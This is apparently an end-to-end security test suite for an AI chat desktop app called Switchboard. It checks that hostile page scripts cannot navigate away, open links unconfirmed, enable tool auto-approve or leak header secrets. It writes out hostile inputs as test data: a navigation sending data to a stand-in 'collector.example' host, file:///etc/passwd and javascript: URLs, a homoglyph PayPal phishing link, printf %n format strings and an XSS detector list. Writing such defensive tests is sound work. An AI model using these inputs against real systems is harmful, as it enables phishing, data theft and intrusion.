// The trust boundary in the real window, as a script running in the page would try it: the
// window never leaves the app (location, a form, window.open, a clicked link), a link opens only
// after Rust's native dialog has shown its real host, and neither auto-approve nor a link to a
// local file can be had by calling the app's commands directly; a remote server's approval
// names its headers (whole in the native dialog, never in the page) and its trust, a tool added in
// Settings to run without asking needs the native dialog too, an OAuth sign-in page opens only
// after its dialog, and a dialog's text is never a printf format. And the command line: Ctrl-C
// stops a verb's servers, a schema nested 10 000 levels costs one tool.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { allowInDialog, alive, answerSays, BIN, everythingOverHttp, fakeBrowser, largestWindow, launch, listeningPort, nativeWindow, pressIn, run, screenshotScreen, sendInNewConversation, sidebarIds, tempHome, textOf, tid, windowGone, withMockModel } from "./harness.mjs";

/** Calls one of the app's commands straight from the page, as a hostile script could. */
function invokeFromPage(b, command, args) {
  return b.executeAsync(
    (command, args, done) => {
      window.__TAURI_INTERNALS__.invoke(command, args).then(
        (value) => done({ ok: true, value }),
        (error) => done({ ok: false, kind: error?.kind ?? String(error) }),
      );
    },
    command,
    args,
  );
}

/** No native window titled `title` is up: checked once the app said it was done (a command's
 * answer, a refusal logged), never after a guessed wait. */
function noNativeWindow(title) {
  assert.equal(run("xdotool", ["search", "--name", title]).stdout.trim(), "", `a window “${title}” appeared`);
}

/** How many times the app logged that the window tried to leave it (its navigation guard). */
function refusalsIn(home) {
  const logs = path.join(home, "logs");
  return fs.readdirSync(logs).filter((f) => f.endsWith(".log")).reduce((n, f) => n + fs.readFileSync(path.join(logs, f), "utf8").split("tried to leave the app").length - 1, 0);
}

/** Waits until the navigation guard has refused one more navigation than `before`. */
async function refusedOnce(b, home, before, what) {
  await b.waitUntil(async () => refusalsIn(home) > before, { timeout: 10000, timeoutMsg: `${what} never reached the navigation guard` });
}

test("window_never_navigates_away and a link opens only after its real host is shown", async () => {
  const home = tempHome("threat-navigation");
  const { opened, env } = fakeBrowser(home);
  const app = await launch(home, env);
  try {
    const b = app.browser;
    const own = await b.execute(() => location.href);
    assert.match(own, /^tauri:\/\/localhost/);

    // A script, a form and a pop-up all stay put: each is refused (and logged) by the guard.
    let before = refusalsIn(home);
    await b.execute(() => location.assign("https://collector.example/stolen?data=1"));
    await refusedOnce(b, home, before, "location.assign");
    assert.equal(await b.execute(() => location.href), own, "location.assign left the app");
    // A form never gets as far as the guard: the policy's form-action 'none' stops it, and
    // says so with a violation event, which is what is waited for.
    const stopped = await b.executeAsync((done) => {
      document.addEventListener("securitypolicyviolation", (e) => done(e.violatedDirective), { once: true });
      const form = document.createElement("form");
      form.action = "https://collector.example/post";
      form.method = "post";
      document.body.append(form);
      form.submit();
    });
    assert.equal(stopped, "form-action", "the form was not stopped by the content security policy");
    assert.equal(await b.execute(() => location.href), own, "a form left the app");
    // window.open answers at once: null when nothing was opened (WebKit opens no pop-up a
    // script asks for on its own).
    assert.equal(await b.execute(() => window.open("https://collector.example/popup") === null), true, "window.open opened something");
    assert.equal((await b.getWindowHandles()).length, 1, "a pop-up opened");
    await b.$(tid("new-conversation")).click();
    await b.waitUntil(async () => (await sidebarIds(b)).length === 1, { timeoutMsg: "the app stopped working" });

    // A link as a model writes it, with a look-alike host ("pаypal", Cyrillic а).
    await b.execute(() => {
      const link = document.createElement("a");
      link.href = "https://p\u0430ypal.com/signin";
      link.textContent = "Sign in to PayPal";
      link.id = "hostile-link";
      link.style.cssText = "position:fixed;left:40%;top:40%;z-index:99;font-size:24px;background:#fff";
      document.body.append(link);
    });
    await b.$("#hostile-link").click();
    let dialog = await nativeWindow("Open xn--pypal-4ve.com in your browser?");
    screenshotScreen("threat-link-dialog");
    pressIn(dialog, "Escape");
    await windowGone("Open xn--pypal-4ve.com in your browser?");
    assert.ok(!fs.existsSync(opened), "a link opened that the person did not allow");
    assert.equal(await b.execute(() => location.href), own, "a clicked link navigated the window");

    await b.$("#hostile-link").click();
    dialog = await nativeWindow("Open xn--pypal-4ve.com in your browser?");
    pressIn(dialog, "alt+o");
    await b.waitUntil(() => fs.existsSync(opened), { timeout: 10000, timeoutMsg: "the allowed link did not open" });
    assert.equal(fs.readFileSync(opened, "utf8"), "https://xn--pypal-4ve.com/signin\n");
    assert.equal(await b.execute(() => location.href), own);

    // WebKit's own menu on the link: "Open Link" and "Open Link in New Window" leave the
    // window where it is, open no other window and ask nothing.
    const refusals = () => refusalsIn(home);
    for (const [item, keys] of [["open-link", "Down Return"], ["open-link-in-new-window", "Down Down Return"]]) {
      const before = refusals();
      const at = await b.execute(() => {
        const r = document.getElementById("hostile-link").getBoundingClientRect();
        return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
      });
      const place = largestWindow();
      const clicked = run("xdotool", ["mousemove", String(Math.round(place.x + at.x)), String(Math.round(place.y + at.y)), "click", "3"]);
      assert.equal(clicked.status, 0, clicked.stderr);
      await sleep(600);
      screenshotScreen(`threat-link-menu-${item}`);
      const chosen = run("xdotool", ["key", "--delay", "150", ...keys.split(" ")]);
      assert.equal(chosen.status, 0, chosen.stderr);
      // "Open Link" reaches the navigation guard, "in a new window" the handler of new
      // windows: each logs its refusal, which is what is waited for.
      await refusedOnce(b, home, before, `the menu's ${item}`);
      assert.equal(await b.execute(() => location.href), own, `the menu's ${item} navigated the window`);
      assert.equal((await b.getWindowHandles()).length, 1, `the menu's ${item} opened a window`);
      noNativeWindow("in your browser?");
    }
    assert.equal(fs.readFileSync(opened, "utf8").trim().split("\n").length, 1, "the menu opened the link in the browser");

    // Straight to the command: a local file or another scheme opens nothing and asks nothing.
    for (const url of ["file:///etc/passwd", "search-ms:query=x", "javascript:alert(1)"]) {
      const answer = await invokeFromPage(b, "open_link", { url });
      assert.deepEqual(answer, { ok: false, kind: "invalid_input" }, url);
    }
    // Each command has answered: a dialog it asked would be up by now.
    noNativeWindow("in your browser?");
    assert.equal(fs.readFileSync(opened, "utf8").trim().split("\n").length, 1);
  } finally {
    await app.close();
  }
});

test("native_dialog_text_is_never_a_format_string: a link with %n does not take the app down (the screenshot shows it as written)", async () => {
  const home = tempHome("threat-dialog-format");
  const app = await launch(home);
  try {
    const b = app.browser;
    // GTK's message dialog formats its text printf-style: %n would write memory (glibc aborts
    // the app), %s would read it. Such a link is as easy to write as any other.
    const asked = invokeFromPage(b, "open_link", { url: "https://example.com/%n%n%s%s%s%s%x%x?q=%25%s" });
    const dialog = await nativeWindow("Open example.com in your browser?");
    screenshotScreen("threat-dialog-format");
    pressIn(dialog, "Escape");
    assert.deepEqual(await asked, { ok: true, value: false }, "the app died showing the dialog");
    await b.$(tid("new-conversation")).click();
    await b.waitUntil(async () => (await sidebarIds(b)).length === 1, { timeoutMsg: "the app stopped working" });
  } finally {
    await app.close();
  }
});

test("webview_cannot_turn_on_auto_approve_without_native_confirmation", async () => {
  const home = tempHome("threat-auto-approve");
  const app = await launch(home);
  try {
    const b = app.browser;
    await b.$(tid("new-conversation")).click();
    await b.waitUntil(async () => (await sidebarIds(b)).length === 1, { timeoutMsg: "no conversation" });
    const [id] = await sidebarIds(b);
    const toggle = tid("auto-approve");
    const chip = tid("auto-approve-chip");

    // A script asks Rust directly: the native dialog appears; closed, nothing changed.
    const asked = invokeFromPage(b, "set_auto_approve", { conversationId: id, on: true });
    let dialog = await nativeWindow("Run every tool without asking");
    screenshotScreen("threat-auto-approve-dialog");
    pressIn(dialog, "Escape");
    assert.deepEqual(await asked, { ok: false, kind: "not_confirmed" });
    const stored = await invokeFromPage(b, "get_conversation", { id });
    assert.equal(stored.value.conversation.auto_approve, false);

    // The person turns it on from the header's menu and says yes in the dialog.
    await b.$(tid("conversation-menu")).click();
    await b.$(toggle).click();
    dialog = await nativeWindow("Run every tool without asking");
    pressIn(dialog, "alt+r");
    await b.$(chip).waitForDisplayed({ timeoutMsg: "auto-approve did not turn on after the person confirmed it" });
    assert.equal(await textOf(b, chip), "Auto-approve on");
    await app.screenshot("threat-auto-approve-on");
    // Off (the chip, one click) needs no dialog.
    await b.$(chip).click();
    await b.$(chip).waitForDisplayed({ reverse: true, timeoutMsg: "auto-approve did not turn off" });
    await noNativeWindow("Run every tool without asking", 800);
  } finally {
    await app.close();
  }
});

test("webview_cannot_add_a_standing_approval_in_settings_without_native_confirmation", async () => {
  const home = tempHome("threat-settings-approval");
  addRawServer(home, "raw", "--deep-schema 200");
  const app = await launch(home);
  try {
    const b = app.browser;
    await b.waitUntil(async () => {
      const listed = await invokeFromPage(b, "list_mcp_servers", {});
      return listed.ok && listed.value.some((s) => s.name === "raw" && s.state?.state === "running");
    }, { timeout: 30000, timeoutMsg: "the server did not start" });
    const standing = async () => (await invokeFromPage(b, "list_tool_approvals", {})).value;

    // A script asks Rust directly: the native dialog names the tool; closed, nothing is added.
    const asked = invokeFromPage(b, "allow_tool_always", { server: "raw", tool: "echo" });
    let dialog = await nativeWindow("Stop asking before “echo” runs?");
    pressIn(dialog, "Escape");
    assert.deepEqual(await asked, { ok: false, kind: "not_confirmed" });
    assert.deepEqual(await standing(), []);

    // The person adds it in Settings and says yes in the dialog.
    await b.$(tid("nav-settings")).click();
    const toolSelect = await b.$(tid("approval-add-tool"));
    await b.waitUntil(async () => (await toolSelect.$$("option")).length === 2, { timeoutMsg: "the tool list did not load" });
    await toolSelect.selectByAttribute("value", "echo");
    await b.$(tid("approval-add-submit")).click();
    dialog = await nativeWindow("Stop asking before “echo” runs?");
    screenshotScreen("threat-settings-approval-dialog");
    pressIn(dialog, "alt+s");
    await b.waitUntil(async () => (await b.$$(tid("approval-item"))).length === 1, {
      timeoutMsg: "the approval was not listed after the person confirmed it",
    });
    assert.match(await textOf(b, tid("approval-item")), /in every conversation/);
    const [added] = await standing();
    assert.deepEqual([added.server, added.tool, added.conversation_id], ["raw", "echo", null]);
    await app.screenshot("threat-settings-approval");
  } finally {
    await app.close();
  }
});

/** raw_server.py (tests/peers) over streamable HTTP with `args`: the process and its URL. */
async function rawOverHttp(args) {
  const child = spawn(path.resolve("tests/peers/.venv/bin/python"), [path.resolve("tests/peers/raw_server.py"), "--http", ...args], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  try {
    const url = await new Promise((resolve, reject) => {
      let said = "";
      const timer = setTimeout(() => reject(new Error(`raw_server.py said no address within 20 s: ${said}`)), 20000);
      child.stdout.on("data", (chunk) => {
        said += chunk;
        const found = /LISTENING (\S+)/.exec(said);
        if (found) {
          clearTimeout(timer);
          resolve(found[1]);
        }
      });
      child.once("exit", (code) => reject(new Error(`raw_server.py exited (${code}) before listening`)));
    });
    return { child, url };
  } catch (e) {
    child.kill();
    throw e;
  }
}

/**
 * A stand-in for the person's browser under `home` that notes each page it is asked to open (a
 * line of the file `opened`), then follows it: a raw_server.py sign-in page sends it straight
 * back to Switchboard's loopback address with a code.
 */
function followingBrowser(home) {
  const opened = path.join(home, "browser-opened");
  const browser = path.join(home, "browser.sh");
  const python = path.resolve("tests/peers/.venv/bin/python");
  fs.writeFileSync(
    browser,
    `#!/bin/sh\nprintf '%s\\n' "$1" >> '${opened}'\n'${python}' -c 'import sys, urllib.request; urllib.request.urlopen(sys.argv[1]).read()' "$1" &\n`,
    { mode: 0o755 },
  );
  return { opened, browser };
}

test("oauth_sign_in_opens_nothing_until_the_person_sees_its_host, and a file: sign-in page is never opened", async () => {
  const home = tempHome("threat-oauth-dialog");
  const { opened, browser } = followingBrowser(home);
  const servers = [];
  let app;
  try {
    const fair = await rawOverHttp(["--oauth", "-"]);
    servers.push(fair);
    const hostile = await rawOverHttp(["--oauth", "file:///etc/passwd"]);
    servers.push(hostile);
    const env = { ...process.env, SWITCHBOARD_HOME: home };
    for (const [name, server] of [["account", fair], ["hostile", hostile]]) {
      const added = run(BIN, ["mcp", "add", name, "--url", server.url, "--transport", "http"], { env });
      assert.equal(added.status, 0, added.stderr);
    }
    app = await launch(home, { BROWSER: browser });
    const b = app.browser;
    await b.$(tid("nav-servers")).click();
    const item = (name) => `${tid("server-item")}[data-name="${name}"]`;
    for (const name of ["account", "hostile"]) {
      await b.waitUntil(async () => (await textOf(b, `${item(name)} ${tid("server-state")}`)) === "Needs sign-in", {
        timeout: 30000,
        timeoutMsg: `${name} did not ask for a sign-in`,
      });
    }
    const port = new URL(fair.url).port;
    const title = "Sign in to “account” at 127.0.0.1?";

    // Closed, nothing is opened and the server still waits for a sign-in.
    await b.$(`${item("account")} ${tid("server-sign-in")}`).click();
    let dialog = await nativeWindow(title);
    screenshotScreen("threat-oauth-dialog");
    pressIn(dialog, "Escape");
    await windowGone(title);
    assert.equal(fs.existsSync(opened), false, "the browser opened before the person said yes");
    assert.equal(await textOf(b, `${item("account")} ${tid("server-state")}`), "Needs sign-in");

    // Said yes: the page opens, the browser comes back with a code, and the server runs.
    await b.$(`${item("account")} ${tid("server-sign-in")}`).click();
    dialog = await nativeWindow(title);
    pressIn(dialog, "alt+o");
    await b.waitUntil(async () => (await textOf(b, `${item("account")} ${tid("server-state")}`)) === "Running" && (await textOf(b, `${item("account")} ${tid("server-tool-count")}`)) === "1 tool", {
      timeout: 30000,
      timeoutMsg: "the server did not run after the sign-in",
    });
    const pages = fs.readFileSync(opened, "utf8").trim().split("\n");
    assert.equal(pages.length, 1);
    assert.ok(pages[0].startsWith(`http://127.0.0.1:${port}/authorize?`), pages[0]);

    // A server whose sign-in page is a file: no dialog, nothing opened, and the page says why
    // (Switchboard's refusal, not a failure earlier in the sign-in).
    await b.$(`${item("hostile")} ${tid("server-sign-in")}`).click();
    await b.waitUntil(async () => (await b.execute(() => document.body.textContent)).includes("is not an https:// address; Switchboard does not open it"), {
      timeoutMsg: "the page did not say why the sign-in page was refused",
    });
    await noNativeWindow("Sign in to “hostile”", 500);
    assert.equal(fs.readFileSync(opened, "utf8").trim().split("\n").length, 1);
    await app.screenshot("threat-oauth-signed-in");
  } finally {
    await app?.close();
    for (const server of servers) server.child.kill();
  }
});

test("a step-up in the conversation: a call refused for more scope offers Sign in in its card, and after the sign-in the call runs again and the model goes on", async () => {
  await withMockModel("threat-step-up", {}, async (home) => {
    const { opened, browser } = followingBrowser(home);
    const server = await rawOverHttp(["--oauth", "-", "--step-up"]);
    let app;
    try {
      const env = { ...process.env, SWITCHBOARD_HOME: home };
      const added = run(BIN, ["mcp", "add", "files", "--url", server.url, "--transport", "http"], { env });
      assert.equal(added.status, 0, added.stderr);
      app = await launch(home, { BROWSER: browser });
      const b = app.browser;
      const state = `${tid("server-item")}[data-name="files"] ${tid("server-state")}`;
      const title = "Sign in to “files” at 127.0.0.1?";
      // Signed in once, with no scope asked for: reading works, writing will not.
      await b.$(tid("nav-servers")).click();
      await b.waitUntil(async () => (await textOf(b, state)) === "Needs sign-in", { timeout: 30000, timeoutMsg: "files did not ask for a sign-in" });
      await b.$(`${tid("server-item")}[data-name="files"] ${tid("server-sign-in")}`).click();
      pressIn(await nativeWindow(title), "alt+o");
      await b.waitUntil(async () => (await textOf(b, state)) === "Running" && (await textOf(b, `${tid("server-item")}[data-name="files"] ${tid("server-tool-count")}`)) === "2 tools", { timeout: 30000, timeoutMsg: "files did not run after its sign-in" });

      await sendInNewConversation(b, "Write the note");
      await allowInDialog(b);
      await answerSays(b, "Writing the note needs more permission.");
      const failed = b.$(tid("tool-card"));
      assert.equal(await failed.getAttribute("data-state"), "error");
      // The server is marked at once; its card says why and offers the sign-in.
      const offer = failed.$(tid("tool-card-sign-in"));
      await offer.waitForDisplayed({ timeout: 20000 });
      assert.match(await textOf(b, tid("tool-card-sign-in-why")), /“files” needs you to sign in \(or to allow more\)/);
      await app.screenshot("step-up-offered");

      await offer.click();
      pressIn(await nativeWindow(title), "alt+o");
      // Signed in again, asking for what the 403 named: the call is retried once, asked first.
      await allowInDialog(b);
      await answerSays(b, "The note is written now that you signed in.");
      const cards = await b.$$(tid("tool-card"));
      assert.equal(cards.length, 2);
      assert.equal(await cards[1].getAttribute("data-state"), "done");
      assert.equal((await b.$$(tid("tool-card-sign-in"))).length, 0, "the sign-in has done its job");
      const pages = fs.readFileSync(opened, "utf8").trim().split("\n");
      assert.equal(pages.length, 2);
      const asked = new URL(pages[1]).searchParams.get("scope") ?? "";
      assert.deepEqual(asked.split(" ").sort(), ["files:read", "files:write"], pages[1]);
      await app.screenshot("step-up-retried");
    } finally {
      await app?.close();
      server.child.kill();
    }
  });
});

/** Adds a raw_server.py server (tests/peers) to `home`, run with `fault`, via the command line. */
function addRawServer(home, name, fault, prefix = "") {
  const python = path.resolve("tests/peers/.venv/bin/python");
  const script = path.resolve("tests/peers/raw_server.py");
  const line = `${prefix}exec '${python}' '${script}' ${fault}`;
  const added = run(BIN, ["mcp", "add", name, "--", "sh", "-c", line], { env: { ...process.env, SWITCHBOARD_HOME: home } });
  assert.equal(added.status, 0, added.stderr);
}

test("ctrl_c_on_a_cli_verb_stops_its_servers, even one that never answers", async () => {
  const home = tempHome("threat-ctrl-c");
  const marks = path.join(home, "grandchild");
  // The server never answers its tool list and leaves a grandchild of its own running.
  addRawServer(home, "mute", "--hang-list", `sleep 1000 & echo $! > '${marks}'; `);
  const cli = spawn(BIN, ["mcp", "tools", "mute"], { env: { ...process.env, SWITCHBOARD_HOME: home } });
  let stderr = "";
  cli.stderr.on("data", (d) => (stderr += d));
  const exited = new Promise((resolve) => cli.on("exit", (code, signal) => resolve({ code, signal })));
  for (let i = 0; i < 100 && !fs.existsSync(marks); i++) await sleep(100);
  const grandchild = Number(fs.readFileSync(marks, "utf8"));
  assert.ok(alive(grandchild));
  await sleep(500);
  cli.kill("SIGINT");
  assert.deepEqual(await exited, { code: 130, signal: null });
  assert.match(stderr, /interrupted; stopping its MCP servers/);
  for (let i = 0; i < 50 && alive(grandchild); i++) await sleep(100);
  assert.ok(!alive(grandchild), "the server's process group outlived Ctrl-C");
});

test("a tool schema nested 10,000 levels holds back that tool on the command line; the rest is listed", () => {
  const home = tempHome("threat-deep-schema");
  addRawServer(home, "deep", "--deep-schema 10000");
  const listed = run(BIN, ["mcp", "tools", "deep"], { env: { ...process.env, SWITCHBOARD_HOME: home }, timeout: 60000 });
  assert.equal(listed.status, 0, listed.stderr);
  assert.match(listed.stdout, /^echo\s+deep__echo\s+new/m);
  assert.match(listed.stdout, /^deep: HELD BACK: its definition nests deeper than 64 levels/m);
});

/** Installs a canary in the page: any script that runs and calls out (alert, a new window…)
 * or trips the CSP is recorded in `window.__canary`. */
async function installCanary(b) {
  await b.execute(() => {
    window.__canary = [];
    for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
      window[name] = (...args) => window.__canary.push(`${name}(${args.map(String).join(", ")})`);
    }
    document.addEventListener("securitypolicyviolation", (e) =>
      window.__canary.push(`CSP blocked ${e.violatedDirective}: ${e.blockedURI}`),
    );
  });
}

/** What in `selector` could run or reach out: script-like elements, event handlers, script URLs. */
function dangerousIn(b, selector) {
  return b.execute((selector) => {
    const found = [];
    for (const root of document.querySelectorAll(selector)) {
      for (const el of root.querySelectorAll("*")) {
        const tag = el.tagName.toLowerCase();
        if (["script", "iframe", "frame", "object", "embed", "form", "base", "meta", "link", "style", "template", "portal"].includes(tag)) {
          found.push(`<${tag}>`);
        }
        for (const attr of el.attributes) {
          const value = attr.value.replace(/\s/g, "").toLowerCase();
          if (attr.name.startsWith("on") || value.startsWith("javascript:") || value.startsWith("data:text/html")) {
            found.push(`${tag}[${attr.name}=${attr.value.slice(0, 60)}]`);
          }
        }
      }
    }
    return found;
  }, selector);
}

test("dompurify_xss_corpus_runs_nothing in model text, tool output, tool names and descriptions, server names and titles", async () => {
  const home = tempHome("threat-corpus");
  const payloads = path.resolve("tests/fixtures/hostile/dompurify-payloads.json");
  const { payloads: corpus } = JSON.parse(fs.readFileSync(payloads, "utf8"));
  const env = { ...process.env, SWITCHBOARD_HOME: home };
  addRawServer(home, "hostile", `--describe '${payloads}'`);
  // Server names: each payload a name can be (no "/"), as a server that exits at once.
  const names = corpus.filter((p) => !/[/\r\n]/.test(p) && [...p].length <= 64).slice(0, 12);
  // (A name with control characters or a "/" is refused by the config's own checks.)
  const accepted = names.filter((name) => run(BIN, ["mcp", "add", name, "--", "true"], { env }).status === 0);
  assert.ok(accepted.length >= 8, `only ${accepted.length} hostile server names were accepted`);
  const seeded = run("python3", ["tests/e2e/seed_hostile.py", "--home", home, "--payloads", payloads], { env });
  assert.equal(seeded.status, 0, seeded.stderr);
  const corpusId = seeded.stdout.trim();

  const app = await launch(home);
  try {
    const b = app.browser;
    await installCanary(b);
    // Every conversation title, in the sidebar.
    await b.waitUntil(async () => (await sidebarIds(b)).length === corpus.length + 1, { timeout: 20000, timeoutMsg: "the titles did not load" });
    // The corpus conversation: the question, the cards (opened), the answer.
    await b.$(`${tid("conversation-item")}[data-id="${corpusId}"]`).click();
    await b.waitUntil(async () => (await textOf(b, tid("message-list"))).includes("End of the hostile corpus."), {
      timeout: 20000,
      timeoutMsg: "the corpus answer was not shown",
    });
    const cards = await b.execute((sel) => {
      const all = [...document.querySelectorAll(sel)];
      for (const card of all) {
        const details = card.matches("details") ? card : card.querySelector("details");
        if (details) details.open = true;
      }
      for (const card of all) card.querySelector("summary")?.scrollIntoView();
      return all.length;
    }, tid("tool-card"));
    assert.ok(cards > 0, "no tool cards");
    await b.waitUntil(async () => (await b.$$(tid("tool-result"))).length === cards, {
      timeout: 20000,
      timeoutMsg: "the tool results were not all shown",
    });
    await app.screenshot("threat-corpus-conversation");
    const inConversation = await dangerousIn(b, `${tid("message-list")}, ${tid("conversation-item")}`);

    // Tool titles and descriptions, and server names, on the Servers page.
    await b.$(tid("nav-servers")).click();
    const hostile = `${tid("server-item")}[data-name="hostile"]`;
    await b.$(hostile).waitForDisplayed({ timeout: 20000 });
    await b.waitUntil(async () => /Running/.test(await textOf(b, `${hostile} ${tid("server-state")}`)), { timeout: 20000 });
    await b.$(`${hostile} ${tid("server-open")}`).click();
    await b.waitUntil(async () => (await b.$$(`${hostile} ${tid("tool-item")}`)).length === corpus.length, {
      timeout: 20000,
      timeoutMsg: "the hostile server's tools were not listed",
    });
    await app.screenshot("threat-corpus-servers");
    const onServers = await dangerousIn(b, tid("server-item"));

    // Every image has loaded or failed by now, so an onerror payload would have run.
    await b.waitUntil(async () => b.execute(() => Array.from(document.images).every((img) => img.complete)), {
      timeout: 10000,
      timeoutMsg: "images were still loading",
    });
    const canary = await b.execute(() => window.__canary);
    assert.deepEqual(canary, [], "a payload ran (or tried to)");
    assert.deepEqual(inConversation, [], "something that could run was left in the conversation");
    assert.deepEqual(onServers, [], "something that could run was left on the Servers page");
    assert.equal(await b.execute(() => location.href.startsWith("tauri://localhost")), true);
  } finally {
    await app.close();
  }
});

test("a server that never answers initialize does not hold up chat: the turn goes on without it and says so", () => {
  const home = tempHome("threat-mute-init");
  const env = { ...process.env, SWITCHBOARD_HOME: home };
  addRawServer(home, "mute", "--no-initialize");
  // A provider that refuses the connection at once: the turn ends right after it starts.
  const provider = run(BIN, ["provider", "add", "Nowhere", "--kind", "openai_compatible", "--base-url", "http://127.0.0.1:9/v1", "--model", "m"], { env });
  assert.equal(provider.status, 0, provider.stderr);
  // spawnSync's 30 s limit is half the server start-up limit this used to wait out in silence.
  const chat = run(BIN, ["chat", "--provider", "Nowhere", "--json", "--wait-for-servers", "2", "hi"], { env });
  assert.equal(chat.error, undefined, "chat waited for the server");
  assert.match(chat.stderr, /“mute” is still starting after 2 s \(it has not answered `initialize`\); this turn goes on without its tools/);
  const events = chat.stdout.trim().split("\n").map((l) => JSON.parse(l));
  assert.equal(events.at(-1).type, "run_finished");
});

test("remote_server_approval_names_its_headers_and_trust_and_the_page_never_gets_a_secret", async () => {
  const home = tempHome("threat-remote-approval");
  const everything = everythingOverHttp("streamableHttp");
  try {
    const port = await listeningPort(everything, 20000);
    const secret = "sk-live-e2e-0123456789";
    fs.mkdirSync(path.join(home, "config"), { recursive: true });
    fs.writeFileSync(
      path.join(home, "config", "mcp.json"),
      JSON.stringify({
        mcpServers: {
          notes: {
            url: `http://127.0.0.1:${port}/mcp`,
            headers: { Authorization: `Bearer ${secret}`, "X-Region": "eu-west" },
            trust: "trusted",
          },
        },
      }),
    );
    const app = await launch(home);
    try {
      const b = app.browser;
      await b.$(tid("nav-servers")).click();
      const item = `${tid("server-item")}[data-name="notes"]`;
      await b.$(item).waitForDisplayed({ timeout: 20000 });
      assert.equal(await textOf(b, `${item} ${tid("server-state")}`), "Needs approval");
      await b.$(`${item} ${tid("server-approve")}`).click();
      const dialog = await nativeWindow("Start the MCP server “notes”");
      // The dialog's words are Rust's (core tests read them); this picture is for eyes.
      screenshotScreen("threat-remote-approval-headers");
      pressIn(dialog, "alt+a");
      await b.waitUntil(async () => (await textOf(b, `${item} ${tid("server-state")}`)) === "Running" && /^\d+ tools?$/.test((await textOf(b, `${item} ${tid("server-tool-count")}`)) ?? ""), {
        timeout: 30000,
        timeoutMsg: "the approved remote server does not show as running",
      });
      const page = await b.execute(() => document.documentElement.outerHTML);
      assert.ok(!page.includes(secret), "a header's secret reached the page");
      const seen = await invokeFromPage(b, "list_mcp_servers", {});
      assert.ok(seen.ok, JSON.stringify(seen));
      assert.ok(JSON.stringify(seen.value).includes("notes"), JSON.stringify(seen));
      assert.ok(!JSON.stringify(seen.value).includes(secret), "a header's secret crossed into the webview");
    } finally {
      await app.close();
    }
  } finally {
    everything.kill("SIGTERM");
  }
});
